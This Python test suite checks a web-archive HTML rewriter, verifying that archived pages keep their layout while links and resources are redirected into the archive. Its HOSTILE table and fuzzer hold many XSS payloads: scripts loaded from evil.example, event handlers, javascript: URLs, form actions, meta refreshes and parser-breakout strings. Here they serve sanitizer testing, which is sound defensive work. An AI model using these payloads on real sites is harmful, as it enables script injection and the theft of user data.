"""What leaves the rewriter holds nothing that runs, sends or leads outside, and looks as the page did."""

from __future__ import annotations

from random import Random

import pytest
from selectolax.lexbor import LexborHTMLParser

from tidings.archive.replay.html import rewritten_page
from tidings.archive.replay.names import Names, ResourceKind

NAMES = Names("/t/c", "20260101000000")
URL = "http://news.example/2026/page.html"
AT = "/t/c/20260101000000{}/http://{}"


def shown(html: str, names: Names = NAMES) -> str:
    return rewritten_page(html.encode(), names, URL).decode()


def body(html: str) -> str:
    return shown(html).partition("<body>")[2].removesuffix("</body></html>")


@pytest.mark.parametrize(
    ("html", "kind", "target"),
    [
        ("<img src=a.png>", "im_", "news.example/2026/a.png"),
        ("<img src='//cdn.example/a.png?x=1'>", "im_", "cdn.example/a.png?x=1"),
        ("<img data-src=/a.png>", "im_", "news.example/a.png"),
        ("<img src='data:image/gif;base64,R0' data-lazy-src=/a.png>", "im_", "news.example/a.png"),
        ("<img srcset='s.png 300w, m.png 1200w, l.png 4000w'>", "im_", "news.example/2026/m.png"),
        ("<img srcset='s.png, l.png 2x'>", "im_", "news.example/2026/s.png"),
        ("<input type=image src=a.png>", "im_", "news.example/2026/a.png"),
        ("<video poster=a.png></video>", "im_", "news.example/2026/a.png"),
        ("<video src=a.mp4></video>", "oe_", "news.example/2026/a.mp4"),
        ("<audio><source src=a.ogg></audio>", "oe_", "news.example/2026/a.ogg"),
        ("<table background=a.png></table>", "im_", "news.example/2026/a.png"),
        ("<svg><image xlink:href=a.png /></svg>", "im_", "news.example/2026/a.png"),
        ("<p style='background:url(a.png)'>", "oe_", "news.example/2026/a.png"),
        ("<svg><rect fill='url(http://o.example/f.svg#x)'/></svg>", "oe_", "o.example/f.svg"),
        ("<iframe src=/f.html></iframe>", "if_", "news.example/f.html"),
        ("<a href=/b.html>b</a>", "", "news.example/b.html"),
        ("<a href='/b.html#part two'>b</a>", "", "news.example/b.html#part%20two"),
        ("<svg><a xlink:href=/b.html>b</a></svg>", "", "news.example/b.html"),
        ("<map><area href=/b.html></map>", "", "news.example/b.html"),
        ("<link rel=stylesheet href=/s.css>", "cs_", "news.example/s.css"),
        ("<link rel=preload as=style href=/s.css>", "cs_", "news.example/s.css"),
        ("<style>@import '/s.css'</style>", "cs_", "news.example/s.css"),
        ("<base href=http://o.example/x/><img src=a.png>", "im_", "o.example/x/a.png"),
    ],
)  # fmt: skip
def test_what_a_page_loads_and_links_to_is_inside_the_archive(
    html: str, kind: str, target: str
) -> None:
    assert AT.format(kind, target) in shown(html)


HOSTILE = {
    "script": "<script>alert(1)</script><script src=//evil.example/x.js></script>",
    "script in a drawing": "<svg><script>alert(1)</script><script xlink:href=//evil.example/x.js /></svg>",
    "handlers": "<body onload=alert(1)><img src=x onerror=alert(1)><p OnClick=alert(1)>x",
    "link to a script": "<a href='java\tscript:alert(1)'>x</a><a href=' javascript:alert(1)'>y</a>",
    "frame with a script": "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frame with data": "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "form": "<form action=http://evil.example/x method=post><input formaction=//evil.example/y type=submit></form>",
    "button": "<button formaction='javascript:alert(1)'>x</button>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "policy": "<meta http-equiv=Content-Security-Policy content='img-src http://evil.example'>",
    "base": "<base href=http://evil.example/ target=_top>",
    "object": "<object data=http://evil.example/x.swf><p>instead</p></object><embed src=http://evil.example/x>",
    "preload": "<link rel=preload href=http://evil.example/x as=script><link rel=prefetch href=http://evil.example/y>",
    "preconnect": "<link rel=preconnect href=http://evil.example><link rel=dns-prefetch href=//evil.example>",
    "manifest": "<html manifest=http://evil.example/m><link rel=manifest href=http://evil.example/m>",
    "ping": "<a href=/x ping=http://evil.example/ping attributionsrc=http://evil.example/a>x</a>",
    "animation": "<svg><a><animate attributeName=href values=http://evil.example/ /><set attributeName=href to=javascript:alert(1) /></a></svg>",
    "use": "<svg><use href=http://evil.example/x.svg#a /><use xlink:href='data:image/svg+xml,x#a'/></svg>",
    "template": "<template shadowrootmode=open><script>alert(1)</script><img src=http://evil.example/x></template>",
    "raw text": "<xmp><script>alert(1)</script></xmp><noembed><img src=http://evil.example/x></noembed>",
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!-- http://evil.example -->",
    "style": "<style>a{x:url(javascript:alert(1))}</style><p style='x:expression(alert(1))'>",
    "worker": "<script>navigator.serviceWorker.register('/sw.js')</script><link rel=serviceworker href=/sw.js>",
    "speculation": "<script type=speculationrules>{'prefetch':[{'urls':['http://evil.example/']}]}</script>",
    "unclosed style in a drawing": "<svg><style>&lt;/style>&lt;img src=http://evil.example/ onerror=alert(1)></style></svg>",
    "breaking out of a title": "<title>&lt;/title>&lt;script>alert(1)&lt;/script></title>",
    "breaking out of a text area": "<textarea>&lt;/textarea>&lt;img src=http://evil.example/ onerror=alert(1)></textarea>",
    "breaking out of mathematics": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=http://evil.example/ onerror=alert(1)&gt;'>",
    "strange attributes": "<p x\"=1 a=\"&quot;><script>alert(1)</script>\" =b <i=c>",
    "mail and telephone": "<a href=mailto:x@evil.example>m</a><a href='tel:+1'>t</a><a href=intent://evil.example>i</a>",
}  # fmt: skip

INERT = frozenset({"title", "alt", "values"})
"""Attributes that are only text."""


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_is_left_that_runs_sends_or_leads_outside(html: str) -> None:
    tree = LexborHTMLParser(shown(html))
    for node in tree.root.traverse():  # type: ignore[union-attr]
        tag = (node.tag or "").lower()
        assert tag not in (
            "script",
            "base",
            "object",
            "embed",
            "template",
            "animate",
            "set",
            "-comment",
        )
        if tag == "style":
            assert "evil.example" not in (node.text() or "").replace(r"\3c ", "<").partition("<")[0]
        for name, value in node.attributes.items():
            assert not name.lower().startswith("on")
            if name not in INERT:
                assert "evil.example" not in (value or "") or (value or "").startswith("/t/c/")
                assert "javascript:" not in (value or "").lower()
        assert tag != "meta" or set(node.attributes) <= {"charset", "name", "content"}


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_page_is_the_same_when_it_is_rewritten_again(html: str) -> None:
    """A browser that parsed what was written differently would see other elements."""
    once = LexborHTMLParser(shown(html))
    again = LexborHTMLParser(once.html or "")
    assert [node.tag for node in once.root.traverse()] == [
        node.tag for node in again.root.traverse()
    ]  # type: ignore[union-attr]


def test_looks_stay() -> None:
    plain = '<div class="a b" id="c" data-theme="dark" lang="de" dir="rtl"><p title="x &amp; y">Zürich</p></div>'
    assert body(plain) == plain
    assert body("<object data=x><p>instead</p></object>") == "<p>instead</p>"
    assert (
        body("<p><noscript><b>still</b></noscript></p>")
        == "<p><noscript><b>still</b></noscript></p>"
    )
    assert body("<pre>\n\na</pre>") == "<pre>\n\na</pre>"
    assert body("<br><hr>") == "<br><hr>"
    assert body("<picture><source srcset=x.webp><img src=a.png></picture>").count("source") == 0


def test_the_way_a_page_is_laid_out_stays() -> None:
    old = (
        '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">'
    )
    assert shown(old + "<p>x").startswith(old)
    assert shown("<!doctype html><p>x").startswith("<!doctype html>")
    assert not shown("<p>x").startswith("<!")
    assert '<meta name="viewport" content="width=9">' in shown(
        "<meta name=viewport content=width=9>"
    )


def test_links_inside_a_frame_stay_inside() -> None:
    assert AT.format("if_", "news.example/b") in shown(
        "<a href=/b>", NAMES._replace(page=ResourceKind.FRAME)
    )


def test_frames_are_sandboxed_and_sets_of_frames_work() -> None:
    assert 'sandbox=""' in shown("<iframe src=/f></iframe>")
    assert AT.format("if_", "news.example/f") in shown("<frameset cols=1><frame src=/f></frameset>")


def test_a_style_that_a_script_would_apply_is_applied() -> None:
    assert "media" not in shown(
        "<link rel=stylesheet media=print onload=\"this.media='all'\" href=/s.css>"
    )
    assert 'media="print"' in shown("<link rel=stylesheet media=print href=/s.css>")


def test_deep_and_huge_pages_are_bounded() -> None:
    assert len(shown("<b>" * 200_000 + "x")) < 20_000_000
    assert len(rewritten_page(b"<p>" + b"x" * 30_000_000, NAMES, URL)) < 11_000_000


PIECES = (
    "<svg>", "</svg>", "<math>", "<style>", "</style>", "<title>", "</title>", "<!--", "-->", "<![CDATA[", "]]>", "<select>",
    "<table>", "<p>", '"', "'", ">", "<", "&lt;", "\x00", "/", "<noscript>", "<textarea>", "<xmp>", "<foreignObject>",
    "<mglyph>", "<mtext>", '<annotation-xml encoding="text/html">', "<frameset>", "<template>", "<a href=//evil.example>",
)  # fmt: skip
"""What changes how a parser reads the rest."""


def mutated(random: Random) -> str:
    html = random.choice(list(HOSTILE.values()))
    for _ in range(random.randint(1, 8)):
        place = random.randrange(len(html) + 1)
        other = random.choice(list(HOSTILE.values()))
        piece = random.choice((random.choice(PIECES), other[random.randrange(len(other)) :][:100]))
        html = html[:place] + piece + html[place + random.choice((0, 0, random.randint(1, 30))) :]
    return html


def leads_outside(name: str, value: str) -> bool:
    if name.removeprefix("xlink:") not in (
        "href",
        "src",
        "action",
        "formaction",
        "poster",
        "background",
        "srcset",
        "data",
    ):
        return False
    return bool(value) and not value.startswith(("/t/c/", "#", "data:image/"))


@pytest.mark.parametrize("seed", range(10))
def test_hostile_pages_torn_and_mixed_stay_harmless(seed: int) -> None:
    random = Random(seed)
    for _ in range(40):
        html = mutated(random)
        for node in LexborHTMLParser(shown(html)).root.traverse():  # type: ignore[union-attr]
            tag = (node.tag or "").lower()
            assert tag not in ("script", "base", "object", "embed", "template", "animate", "set"), (
                html
            )
            assert tag != "meta" or "http-equiv" not in node.attributes, html
            for name, value in node.attributes.items():
                assert not name.lower().startswith("on"), html
                assert not leads_outside(name.lower(), value or ""), html
